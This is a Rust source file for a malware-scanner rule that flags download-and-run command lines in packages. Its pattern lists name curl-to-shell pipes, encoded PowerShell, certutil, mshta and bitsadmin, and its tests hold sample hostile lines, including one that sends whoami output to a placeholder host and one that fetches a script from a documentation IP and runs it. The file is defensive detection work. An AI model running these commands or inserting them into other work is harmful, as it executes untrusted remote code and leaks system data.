//! CMD002 download-and-run-command: a command line that fetches and runs code, or hides what
//! it runs (`curl … | sh`, `powershell -EncodedCommand`, `certutil -urlcache`, `mshta http…`).
//!
//! Two behaviours, because they weigh differently: a command call whose constant command
//! line is such a line *runs* it (`download-and-run`); a string that only holds one
//! (`download-and-run-line`) may be install advice printed to the user, a scanner's pattern
//! or an LLM prompt, and decides a verdict only where it is early or hidden.

use crate::id::{Behaviour, RuleId};
use crate::model::{Category, Finding, PackageFacts, Rule, Severity};
use crate::names::is_command;

pub static RULE: Rule = Rule {
    id: RuleId::Cmd002,
    name: "download-and-run-command",
    category: Category::CommandExecution,
    severity: Severity::High,
    description: "A command line that downloads and runs code or hides its payload (curl|sh, powershell -enc, certutil, mshta, bitsadmin).",
    check,
};

/// Lower-case fragments of shell lines that fetch-and-run or hide the command.
pub static PATTERNS: crate::text::Fragments = &[
    ("| sh", "pipes a download into a shell"),
    ("|sh", "pipes a download into a shell"),
    ("| bash", "pipes a download into a shell"),
    ("|bash", "pipes a download into a shell"),
    ("| python", "pipes a download into python"),
    ("-encodedcommand", "runs an encoded PowerShell command"),
    ("powershell -enc", "runs an encoded PowerShell command"),
    ("powershell.exe -enc", "runs an encoded PowerShell command"),
    (" -e jab", "runs an encoded PowerShell command"),
    ("invoke-webrequest", "downloads with PowerShell"),
    ("downloadstring(", "downloads and runs with PowerShell"),
    ("downloadfile(", "downloads with PowerShell"),
    ("iex(", "runs downloaded PowerShell"),
    ("iex (", "runs downloaded PowerShell"),
    ("invoke-expression", "runs downloaded PowerShell"),
    ("certutil -urlcache", "downloads with certutil"),
    ("certutil.exe -urlcache", "downloads with certutil"),
    ("bitsadmin /transfer", "downloads with bitsadmin"),
    ("mshta http", "runs a remote HTA"),
    ("-windowstyle hidden", "hides the window of what it runs"),
    ("-w hidden", "hides the window of what it runs"),
    ("start /b", "starts a hidden background process"),
];

/// Download commands; with an execution in the same line they fetch-and-run.
const FETCHERS: &[&str] = &["curl ", "wget ", "curl.exe", "wget.exe"];

/// Strings worth classifying: the patterns and the fetchers, for the one shared text pass.
pub static CANDIDATES: crate::text::Fragments = &[
    ("| sh", ""),
    ("|sh", ""),
    ("| bash", ""),
    ("|bash", ""),
    ("| python", ""),
    ("-encodedcommand", ""),
    ("-enc", ""),
    (" -e jab", ""),
    ("invoke-webrequest", ""),
    ("downloadstring(", ""),
    ("downloadfile(", ""),
    ("iex", ""),
    ("invoke-expression", ""),
    ("-urlcache", ""),
    ("bitsadmin", ""),
    ("mshta", ""),
    ("hidden", ""),
    ("start /b", ""),
    ("curl", ""),
    ("wget", ""),
    ("base64 -d", ""),
    ("base64 --decode", ""),
];

pub fn classify(line: &str) -> Option<&'static str> {
    let lower = line.to_ascii_lowercase();
    let fetches = FETCHERS.iter().any(|f| lower.contains(f));
    for (pat, why) in PATTERNS {
        if lower.contains(pat) {
            let is_pipe = pat.starts_with('|');
            if !is_pipe || fetches {
                return Some(why);
            }
        }
    }
    // A script kept encoded and decoded straight into a shell.
    if (lower.contains("base64 -d") || lower.contains("base64 --decode"))
        && ["| sh", "|sh", "| bash", "|bash"]
            .iter()
            .any(|p| lower.contains(p))
    {
        return Some("decodes a hidden script into a shell");
    }
    if fetches {
        if [
            "| perl", "|perl", "| php", "|php", "| ruby", "|ruby", "| node", "|node",
        ]
        .iter()
        .any(|p| lower.contains(p))
        {
            return Some("pipes a download into an interpreter");
        }
        // `curl ... http://host/$(whoami)`: command output sent in the request.
        if lower.contains("$(") || lower.contains('`') {
            return Some("sends command output with a download tool");
        }
        let saves = lower.contains(" -o ") || lower.contains("--output") || lower.contains(" -o\"");
        let then = lower.contains("&&") || lower.contains(" & ") || lower.contains(';');
        if saves && then {
            return Some("downloads a file and runs it");
        }
    }
    if fetches
        && (lower.contains("&& chmod +x")
            || lower.contains(";chmod +x")
            || lower.contains("; chmod +x")
            || lower.contains("&& ./")
            || lower.contains("; ./"))
    {
        return Some("downloads and runs a program");
    }
    None
}

fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
    for (fi, file) in pkg.files.iter().enumerate() {
        let mut seen_lines = Vec::new();
        for call in file.calls.iter().filter(|c| is_command(&c.name)) {
            let Some((text, why)) = call
                .texts()
                .filter(|t| t.len() <= 20_000)
                .find_map(|t| classify(&t).map(|why| (t, why)))
            else {
                continue;
            };
            seen_lines.push(call.span.line);
            out.push(rule.at(
                file,
                call.span,
                call.trigger,
                Behaviour::DownloadAndRun,
                format!(
                    "{} runs a command line that {why}: `{}`",
                    call.name,
                    malpi_python::cut(&text, 160)
                ),
            ));
        }
        // One command saves a download to a file and a later one runs that file
        // (`curl -o s.ps1 URL`, then `powershell -File s.ps1`): the path is what flows.
        let commands: Vec<(&malpi_python::Call, String)> = file
            .calls
            .iter()
            .filter(|c| is_command(&c.name))
            .filter_map(|c| c.texts().find(|t| t.len() <= 20_000).map(|t| (c, t)))
            .collect();
        for (i, (_, fetch)) in commands.iter().enumerate() {
            let Some(saved) = saved_download(fetch) else {
                continue;
            };
            let Some((runner, line)) = commands[i + 1..]
                .iter()
                .find(|(_, later)| runs_file(later, saved))
            else {
                continue;
            };
            if seen_lines.contains(&runner.span.line) {
                continue;
            }
            seen_lines.push(runner.span.line);
            out.push(rule.at(
                file,
                runner.span,
                runner.trigger,
                Behaviour::DownloadAndRun,
                format!(
                    "{} runs `{saved}`, which an earlier command downloaded: `{}` then `{}`",
                    runner.name,
                    malpi_python::cut(fetch, 80),
                    malpi_python::cut(line, 80)
                ),
            ));
        }
        for (s, _, _) in crate::text::matches(pkg, fi, CANDIDATES) {
            if s.value.len() > 20_000 || seen_lines.contains(&s.span.line) {
                continue;
            }
            if let Some(why) = classify(&s.value) {
                seen_lines.push(s.span.line);
                // Written where a command call starts (`subprocess.call(f"curl -o {p} {u}
                // && start {p}")`, holes and all): the call runs it.
                let run_by = file
                    .calls
                    .iter()
                    .find(|c| c.span.line == s.span.line && is_command(&c.name));
                let (behaviour, message) = match run_by {
                    Some(call) => (
                        Behaviour::DownloadAndRun,
                        format!("{} runs a command line that {why}", call.name),
                    ),
                    None => (
                        Behaviour::DownloadAndRunLine,
                        format!("holds a command line that {why}"),
                    ),
                };
                out.push(rule.at(
                    file,
                    s.span,
                    s.trigger,
                    behaviour,
                    format!("{message}: `{}`", malpi_python::cut(&s.value, 160)),
                ));
            }
        }
    }
}

/// The file a download command saves to (`curl -o F URL`, `wget -O F URL`, `--output F`).
fn saved_download(command: &str) -> Option<&str> {
    let lower = command.to_ascii_lowercase();
    if !FETCHERS.iter().any(|f| lower.contains(f)) {
        return None;
    }
    let mut words = command.split_whitespace();
    while let Some(w) = words.next() {
        if matches!(w, "-o" | "-O" | "--output" | "--output-document") {
            let target = words.next()?.trim_matches(|c| c == '"' || c == '\'');
            // A file name worth following: not a hole, not a dash (stdout).
            return (target.len() >= 3 && !target.contains('{') && target != "-").then_some(target);
        }
    }
    None
}

/// Whether a command line runs `file`: names it beside an interpreter or as the program.
fn runs_file(command: &str, file: &str) -> bool {
    if !command.contains(file) || FETCHERS.iter().any(|f| command.contains(f)) {
        return false;
    }
    let lower = command.to_ascii_lowercase();
    let program = lower.split_whitespace().next().unwrap_or("");
    let interpreters = [
        "powershell",
        "pwsh",
        "cmd",
        "bash",
        "sh",
        "python",
        "python3",
        "wscript",
        "cscript",
        "mshta",
        "start",
        "rundll32",
        "regsvr32",
        "chmod",
        "msiexec",
    ];
    interpreters
        .iter()
        .any(|i| program.trim_end_matches(".exe") == *i)
        || program.ends_with(&file.to_ascii_lowercase())
        || lower.contains(&format!("./{}", file.to_ascii_lowercase()))
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_download_saved_then_run_by_a_later_command() {
        let saved = super::saved_download("curl -s -o s.ps1 http://203.0.113.4:8000/d").unwrap();
        assert_eq!(saved, "s.ps1");
        assert!(super::runs_file(
            "powershell.exe -ExecutionPolicy Bypass -File s.ps1",
            saved
        ));
        assert!(!super::runs_file("type s.ps1.log", saved));
        assert!(super::saved_download("curl -o - https://x.example").is_none());
        assert!(super::saved_download("git clone https://x.example/r -o origin").is_none());
    }

    #[test]
    fn shell_lines() {
        assert!(super::classify("curl -s http://x/a.sh | sh").is_some());
        assert!(super::classify("echo a | sh").is_none());
        assert!(super::classify("powershell -EncodedCommand ZQBjAGgAbwA=").is_some());
        assert!(super::classify("git describe --tags").is_none());
        assert!(super::classify("echo aGk=|base64 -d|bash").is_some());
        assert!(
            super::classify("curl -s -o %temp%\\a.bat https://x.example/a && %temp%\\a.bat")
                .is_some()
        );
        assert!(super::classify("curl https://x.example/$(whoami)").is_some());
        assert!(super::classify("curl -o out.json https://api.example/data").is_none());
    }
}
